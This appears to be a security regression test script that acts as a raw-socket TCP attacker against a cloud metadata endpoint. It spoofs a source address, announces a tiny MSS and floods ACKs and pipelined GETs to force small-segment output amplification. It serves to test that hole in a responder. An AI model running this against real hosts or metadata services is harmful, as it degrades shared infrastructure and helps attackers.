#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Output-amplification attacker of e2e_security.sh (issue 12, hole 1), run
inside a guest namespace. A hand-made TCP client on an AF_PACKET socket:

sec_amp.py --duration S [--ack-rate N] [--path P] [--batch N]
           [--batch-interval S] [--src-ip IP]
    SYN with MSS 88 and window 65535, then pipelined GETs for P (N per
    batch, a batch every S seconds: the responder buffers only so many
    unanswered request bytes), and an ACK of
    the highest sequence number seen, N times a second, for S seconds.
    Prints one JSON line: frames and payload bytes seen from the
    responder, data segments shorter than 536 bytes that did not end a
    reply ("small_segs"), ACKs and GETs sent.

The flow uses a source address not configured in the namespace (--src-ip),
so the guest's own TCP stack ignores the replies instead of resetting them.
"""
import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

META = "169.254.169.254"
ETH_P_ALL = 3
ETH_P_IP = 0x0800
PACKET_OUTGOING = 4
F_FIN, F_SYN, F_RST, F_PSH, F_ACK = 0x01, 0x02, 0x04, 0x08, 0x10
TINY_MSS = 88           # the MSS the attacker announces
MIN_SEG = 536           # what the responder must send at least (tcp.h TCP_MSS_MIN)
WINDOW = 65535          # the window the attacker announces
MAX_REQ_SEG = 1400      # request bytes per segment (under the link MTU)
RCVBUF = 8 << 20        # socket buffer for the responder's frames


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


class Flow:
    def __init__(self, a):
        self.ifname = a.iface
        self.src = socket.inet_aton(a.src_ip)
        self.dst = socket.inet_aton(a.addr)
        self.smac = bytes.fromhex(open(f"/sys/class/net/{a.iface}/address").read().strip().replace(":", ""))
        self.dmac = meta_mac(a.addr, a.iface)
        self.sport = random.randint(20000, 60000)
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RCVBUF)
        self.s.bind((a.iface, 0))
        self.s.setblocking(False)

    def send(self, seq, ack, flags, payload=b"", opts=b""):
        thl = 20 + len(opts)
        tcp = struct.pack("!HHIIBBHHH", self.sport, 80, seq & 0xffffffff, ack & 0xffffffff,
                          (thl // 4) << 4, flags, WINDOW, 0, 0) + opts + payload
        pseudo = self.src + self.dst + struct.pack("!BBH", 0, 6, len(tcp))
        c = csum(pseudo + tcp)
        tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0x4000,
                         64, 6, 0, self.src, self.dst)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        self.s.send(self.dmac + self.smac + struct.pack("!H", ETH_P_IP) + ip + tcp)

    def recv(self):
        """Segments of our flow received so far: (seq, ack, flags, len)."""
        out = []
        while True:
            try:
                fr, addr = self.s.recvfrom(65536)
            except BlockingIOError:
                return out
            if addr[2] == PACKET_OUTGOING or len(fr) < 54:
                continue
            if struct.unpack("!H", fr[12:14])[0] != ETH_P_IP or fr[23] != 6:
                continue
            ihl = (fr[14] & 0x0f) * 4
            if fr[26:30] != self.dst or fr[30:34] != self.src:
                continue
            t = 14 + ihl
            sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", fr[t:t + 14])
            if dport != self.sport or sport != 80:
                continue
            tot = struct.unpack("!H", fr[16:18])[0]
            out.append((seq, ack, flags, tot - ihl - (off >> 4) * 4))


def meta_mac(addr, iface):
    """The metadata endpoint's MAC, resolved by the guest's own stack."""
    try:
        s = socket.create_connection((addr, 80), timeout=5)
        s.close()
    except OSError:
        pass
    for line in open("/proc/net/arp").read().splitlines()[1:]:
        f = line.split()
        if f[0] == addr and f[5] == iface:
            return bytes.fromhex(f[3].replace(":", ""))
    raise SystemExit(f"no ARP entry for {addr} on {iface}")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--ack-rate", type=float, default=900.0)
    ap.add_argument("--path", default="/openstack/latest/user_data")
    ap.add_argument("--batch", type=int, default=20)
    ap.add_argument("--batch-interval", type=float, default=0.1)
    ap.add_argument("--src-ip", default="10.99.0.250")
    ap.add_argument("--addr", default=META)
    ap.add_argument("--iface", default="eth0")
    a = ap.parse_args()
    f = Flow(a)
    cisn = random.getrandbits(32)
    f.send(cisn, 0, F_SYN, opts=struct.pack("!BBH", 2, 4, TINY_MSS))
    deadline = time.monotonic() + 3
    isn = None
    while isn is None and time.monotonic() < deadline:
        select.select([f.s], [], [], 0.05)
        for seq, ack, flags, n in f.recv():
            if flags & (F_SYN | F_ACK) == F_SYN | F_ACK and ack == (cisn + 1) & 0xffffffff:
                isn = seq
    if isn is None:
        print(json.dumps({"error": "no SYN-ACK"}), flush=True)
        return 1
    req = (f"GET {a.path} HTTP/1.1\r\nHost: {META}\r\n\r\n").encode() * a.batch
    snd_nxt = (cisn + 1) & 0xffffffff   # our next sequence number
    their_ack = snd_nxt                  # how much of our requests they read
    hi = (isn + 1) & 0xffffffff          # highest byte seen from them + 1
    st = {"frames": 0, "data_frames": 0, "bytes": 0, "small_segs": 0, "max_seg": 0,
          "acks_sent": 0, "gets_sent": 0, "resets": 0}
    next_batch = 0.0
    interval = 1.0 / a.ack_rate
    end = time.monotonic() + a.duration
    nxt = time.monotonic()
    f.send(snd_nxt, hi, F_ACK)
    while time.monotonic() < end:
        for seq, ack, flags, n in f.recv():
            st["frames"] += 1
            if flags & F_RST:
                st["resets"] += 1
                continue
            if (ack - their_ack) & 0x80000000 == 0:
                their_ack = ack
            if n:
                st["data_frames"] += 1
                st["bytes"] += n
                st["max_seg"] = max(st["max_seg"], n)
                if n < MIN_SEG and not flags & F_PSH:
                    st["small_segs"] += 1
            e = (seq + n + (1 if flags & F_FIN else 0)) & 0xffffffff
            if (e - hi) & 0x80000000 == 0:
                hi = e
        if st["resets"]:
            break
        now = time.monotonic()
        if now < nxt:
            time.sleep(min(nxt - now, 0.001))
            continue
        nxt += interval
        if nxt < now - 0.1:
            nxt = now  # do not catch up after a stall
        payload = b""
        if their_ack == snd_nxt and now >= next_batch:
            next_batch = now + a.batch_interval
            payload = req[:MAX_REQ_SEG]
            st["gets_sent"] += payload.count(b"GET ")
        f.send(snd_nxt, hi, F_ACK | (F_PSH if payload else 0), payload)
        snd_nxt = (snd_nxt + len(payload)) & 0xffffffff
        st["acks_sent"] += 1
    f.send(snd_nxt, 0, F_RST)
    print(json.dumps(st), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
